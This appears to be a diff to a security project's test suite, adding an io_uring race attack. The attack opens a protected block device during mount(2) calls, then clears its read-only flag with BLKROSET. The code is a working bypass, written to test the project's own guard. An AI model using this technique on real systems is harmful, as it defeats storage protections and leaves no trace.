@@ -2,17 +2,24 @@
 /* attacks_uring.c: the same through io_uring, where the caller's registers tell nothing. Raw system calls.
  */
 #include <fcntl.h>
+#include <linux/fs.h>
 #include <linux/io_uring.h>
 #include <linux/openat2.h>
 #include <linux/stat.h>
+#include <poll.h>
+#include <pthread.h>
+#include <sched.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/syscall.h>
 
 #include "tests/attacks/attacks.h"
 
 enum {
-        ENTRIES = 4
+        ENTRIES = 4,
+        TRIES = 400
 };
 
 typedef struct Ring {
@@ -251,7 +258,92 @@ static int attack_write_opened_elsewhere(Attempt *a) {
         return r < 0 ? r : opened(STEAL_FD(fd));
 }
 
+typedef struct Waker {
+        int fd; /* a pipe's end */
+        bool done;
+} Waker;
+
+static void *wake(void *userdata) {
+        Waker *waker = userdata;
+
+        while (!__atomic_load_n(&waker->done, __ATOMIC_ACQUIRE)) {
+                (void)!write(waker->fd, "", 1);
+                sched_yield();
+        }
+        return NULL;
+}
+
+static void put(const Ring *ring, const struct io_uring_sqe *entries, unsigned n) {
+        unsigned tail = *ring_word(ring, ring->p.sq_off.tail),
+                 mask = *ring_word(ring, ring->p.sq_off.ring_mask);
+
+        for (unsigned i = 0; i < n; i++) {
+                ring->sqes[(tail + i) & mask] = entries[i];
+                ring_word(ring, ring->p.sq_off.array)[(tail + i) & mask] = (tail + i) & mask;
+        }
+        __atomic_store_n(ring_word(ring, ring->p.sq_off.tail), tail + n, __ATOMIC_SEQ_CST);
+}
+
+/* What became of the second of two entries, while the caller makes attempts to mount; the ring is left
+ * empty. */
+static int mount_meanwhile(const Ring *ring) {
+        const struct io_uring_cqe *cqes =
+                (const struct io_uring_cqe *)(const void *)(ring->queues + ring->p.cq_off.cqes);
+        unsigned *head = ring_word(ring, ring->p.cq_off.head),
+                 mask = *ring_word(ring, ring->p.cq_off.ring_mask);
+
+        while (__atomic_load_n(ring_word(ring, ring->p.cq_off.tail), __ATOMIC_ACQUIRE) - *head < 2)
+                (void)mount("none", "/proc/self/none", "none", 0, NULL);
+        __atomic_store_n(head, *head + 2, __ATOMIC_RELEASE);
+        return cqes[(*head - 1) & mask].res;
+}
+
+/* A node for reading, opened on the way back from mount(2): a guard that lets mounting through takes it for
+ * that. Such a descriptor is enough to take the read-only flag away. */
+static int open_while_mounting(const Attempt *a, const Ring *ring, int pipe_end) {
+        const struct io_uring_sqe wait = {.opcode = IORING_OP_POLL_ADD,
+                                          .flags = IOSQE_IO_LINK,
+                                          .fd = pipe_end,
+                                          .poll32_events = POLLIN};
+        const struct io_uring_sqe entries[] = {wait, opening(a->volume->node, O_RDONLY | O_NONBLOCK)};
+        char drained[PIPE_BUF];
+        int r = -EPERM;
+
+        for (int i = 0; i < TRIES && r < 0; i++) {
+                (void)!read(pipe_end, drained, sizeof drained);
+                put(ring, entries, ELEMENTS(entries));
+                if (syscall(SYS_io_uring_enter, ring->fd, ELEMENTS(entries), 0, 0, NULL, 0) < 0)
+                        return -errno;
+                r = mount_meanwhile(ring);
+        }
+        return r;
+}
+
+static int attack_release(Attempt *a) {
+        CLEANUP(ring_close) Ring ring = {.fd = -1};
+        CLEANUP_CLOSE int fd = -1;
+        Waker waker = {0};
+        pthread_t thread;
+        int ends[2], flag = 0, r = ring_open(&ring, 0);
+
+        if (r < 0)
+                return r == -ENOSYS || r == -EPERM ? impossible(a, "this kernel gives nobody a ring") : r;
+        if (pipe2(ends, O_CLOEXEC | O_NONBLOCK) < 0)
+                return -errno;
+        waker.fd = ends[1];
+        r = -pthread_create(&thread, NULL, wake, &waker);
+        if (r == 0) {
+                r = fd = open_while_mounting(a, &ring, ends[0]);
+                __atomic_store_n(&waker.done, true, __ATOMIC_RELEASE);
+                pthread_join(thread, NULL);
+        }
+        close(ends[0]);
+        close(ends[1]);
+        return r < 0 ? r : sys(ioctl(fd, BLKROSET, &flag));
+}
+
 static const Attack list[] = {
+        {"release-by-ring", NEEDS_ROOT | NEEDS_NODE | LEAVES_NO_TRACE, NULL, attack_release},
         {"uring-openat", 0, NULL, attack_openat},
         {"uring-create", 0, NULL, attack_create},
         {"uring-truncate-open", 0, NULL, attack_truncate},
